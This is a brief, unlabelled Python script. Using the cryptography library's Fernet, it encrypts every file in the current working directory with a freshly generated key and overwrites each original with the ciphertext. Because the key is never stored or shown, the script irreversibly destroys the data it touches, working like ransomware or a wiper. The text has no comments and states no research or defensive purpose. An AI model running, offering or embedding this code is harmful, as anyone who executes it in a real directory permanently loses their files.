import os

from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for name in os.listdir('.'):
    data = open(name, 'rb').read()
    open('next', 'wb').write(box.encrypt(data))
    os.replace('next', name)
